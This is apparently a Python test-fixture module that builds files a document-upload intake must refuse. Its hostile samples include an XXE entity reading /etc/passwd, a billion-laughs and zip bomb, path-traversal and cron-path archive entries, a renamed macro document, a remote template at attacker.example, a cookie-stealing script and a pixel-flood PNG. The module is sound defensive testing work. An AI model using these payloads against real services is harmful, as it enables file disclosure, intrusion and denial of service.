"""Files for intake tests: good ones, and every bad kind the intake must refuse.

Each builder returns bytes and is cheap (no real gigabytes are compressed: declared sizes are
patched into the ZIP directory where only the claim matters).
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

import docx
from PIL import Image

DOCX_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
DOCM_TYPE = "application/vnd.ms-word.document.macroEnabled.main+xml"
W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def docx_bytes(text: str = "Проект «Культура 21»: описание.") -> bytes:
    document = docx.Document()
    document.add_paragraph(text)
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def rewrite_zip(data: bytes, *, replace: dict[str, bytes] | None = None,
                add: list[tuple[str, bytes]] | None = None) -> bytes:
    """A copy of the ZIP ``data`` with parts replaced and parts added (duplicates allowed)."""
    replace = replace or {}
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, \
            zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            target.writestr(info.filename, replace.get(info.filename, source.read(info)))
        for name, content in add or []:
            with _quiet_duplicates():
                target.writestr(name, content)
    return out.getvalue()


class _quiet_duplicates:  # zipfile warns about duplicate names; that is the point here
    def __enter__(self) -> None:
        import warnings

        self._catcher = warnings.catch_warnings()
        self._catcher.__enter__()
        warnings.simplefilter("ignore")

    def __exit__(self, *exc: object) -> None:
        self._catcher.__exit__(*exc)


def _content_types(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return archive.read("[Content_Types].xml").decode()


def docm_renamed() -> bytes:
    """A macro-enabled Word document (VBA project inside), saved under a .docx name."""
    base = docx_bytes("Документ с макросом")
    types = _content_types(base).replace(DOCX_TYPE, DOCM_TYPE).replace(
        "</Types>", '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
                    "</Types>")
    return rewrite_zip(base, replace={"[Content_Types].xml": types.encode()},
                       add=[("word/vbaProject.bin", b"\xd0\xcf\x11\xe0" + b"\x00" * 512)])


def activex_docx() -> bytes:
    base = docx_bytes()
    return rewrite_zip(base, add=[("word/activeX/activeX1.xml",
                                   b'<?xml version="1.0"?><ax:ocx xmlns:ax="urn:x"/>')])


def _document_xml(body: str, prolog: str = "") -> bytes:
    return (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>{prolog}'
            f'<w:document xmlns:w="{W_NS}"><w:body><w:p><w:r><w:t>{body}</w:t></w:r></w:p>'
            "</w:body></w:document>").encode()


def xxe_docx() -> bytes:
    prolog = '<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    return rewrite_zip(docx_bytes(), replace={"word/document.xml": _document_xml("&xxe;", prolog)})


def billion_laughs_docx() -> bytes:
    entities = ['<!ENTITY lol "lol">'] + [
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'
        for i in range(1, 10)]
    prolog = f"<!DOCTYPE w:document [{''.join(entities)}]>"
    return rewrite_zip(docx_bytes(), replace={"word/document.xml": _document_xml("&lol9;", prolog)})


def zip_bomb() -> bytes:
    """A real compression bomb: 24 MB of zeros in ~24 KB, as the only part of a "docx"."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", _content_types(docx_bytes()))
        archive.writestr("word/document.xml", b"\x00" * (24 * 1024 * 1024))
    return out.getvalue()


def docx_with_huge_part() -> bytes:
    """A small docx whose document references a media part that unpacks to 40 MB."""
    base = docx_bytes()
    rels = ('<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.'
            'openxmlformats.org/package/2006/relationships"><Relationship Id="rId99" Type="http'
            '://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="medi'
            'a/image1.png"/></Relationships>')
    return rewrite_zip(base, replace={"word/_rels/document.xml.rels": rels.encode()},
                       add=[("word/media/image1.png", b"\x00" * (40 * 1024 * 1024))])


def patch_declared_size(data: bytes, name: str, size: int) -> bytes:
    """Claim in the central directory (and the local header) that ``name`` unpacks to ``size``."""
    buffer = bytearray(data)
    encoded = name.encode()
    position = buffer.find(b"PK\x01\x02")  # central directory entries
    while position != -1:
        name_length = struct.unpack_from("<H", buffer, position + 28)[0]
        if bytes(buffer[position + 46:position + 46 + name_length]) == encoded:
            struct.pack_into("<I", buffer, position + 24, size)
            local = struct.unpack_from("<I", buffer, position + 42)[0]
            struct.pack_into("<I", buffer, local + 22, size)
            return bytes(buffer)
        position = buffer.find(b"PK\x01\x02", position + 4)
    raise KeyError(name)


def claimed_gigabytes_docx() -> bytes:
    """A docx whose directory claims a 3 GB part: refused from the directory alone."""
    return patch_declared_size(docx_bytes(), "word/document.xml", 3 * 1024 ** 3)


def traversal_zip_docx() -> bytes:
    return rewrite_zip(docx_bytes(), add=[("../../evil.txt", b"pwned")])


def absolute_name_docx() -> bytes:
    return rewrite_zip(docx_bytes(), add=[("/etc/cron.d/evil", b"* * * * * root true")])


def duplicate_name_docx() -> bytes:
    return rewrite_zip(docx_bytes(), add=[("word/document.xml", _document_xml("второй"))])


def external_template_docx() -> bytes:
    """A docx that loads a remote template (the classic way to smuggle macros in)."""
    rels = ('<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.'
            'openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http'
            '://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
            'Target="http://attacker.example/t.dotm" TargetMode="External"/></Relationships>')
    return rewrite_zip(docx_bytes(), add=[("word/_rels/settings.xml.rels", rels.encode())])


def truncated(data: bytes) -> bytes:
    return data[: len(data) // 2]


def corrupted_docx() -> bytes:
    """A docx with one flipped byte inside the compressed document: the CRC catches it."""
    data = bytearray(docx_bytes("Текст " * 200))
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as archive:
        info = archive.getinfo("word/document.xml")
    name_length, extra_length = struct.unpack_from("<HH", data, info.header_offset + 26)
    start = info.header_offset + 30 + name_length + extra_length
    data[start + info.compress_size // 2] ^= 0xFF
    return bytes(data)


def executable() -> bytes:
    return b"MZ\x90\x00\x03" + b"\x00" * 58 + b"PE\x00\x00" + b"\x00" * 200


def plain_text() -> bytes:
    return "Это просто текст, а не документ Word.\n".encode()


def html_page() -> bytes:
    return b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"


def jpeg_bytes(size: tuple[int, int] = (640, 480)) -> bytes:
    image = Image.new("RGB", size, (200, 120, 40))
    buffer = io.BytesIO()
    image.save(buffer, "JPEG", quality=80)
    return buffer.getvalue()


def png_bytes(size: tuple[int, int] = (320, 240)) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", size, (10, 90, 160)).save(buffer, "PNG")
    return buffer.getvalue()


def _png_chunk(kind: bytes, payload: bytes) -> bytes:
    return (struct.pack(">I", len(payload)) + kind + payload
            + struct.pack(">I", zlib.crc32(kind + payload) & 0xFFFFFFFF))


def png_claiming(width: int, height: int) -> bytes:
    """A tiny PNG whose header claims ``width`` × ``height`` pixels (a pixel-flood bomb)."""
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", header)
            + _png_chunk(b"IDAT", zlib.compress(b"\x00" * 64)) + _png_chunk(b"IEND", b""))


def pdf_bytes(padding: int = 0) -> bytes:
    body = (b"%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n"
            b"2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\n")
    return body + b"%" + b"x" * padding + b"\ntrailer << /Root 1 0 R >>\n%%EOF\n"


def mp4_bytes(payload: int = 1024) -> bytes:
    ftyp = struct.pack(">I4s4sI4s4s", 24, b"ftyp", b"isom", 512, b"isom", b"mp41")
    moov = struct.pack(">I4s", 16, b"moov") + b"\x00" * 8
    mdat = struct.pack(">I4s", 8 + payload, b"mdat") + b"\x00" * payload
    return ftyp + moov + mdat
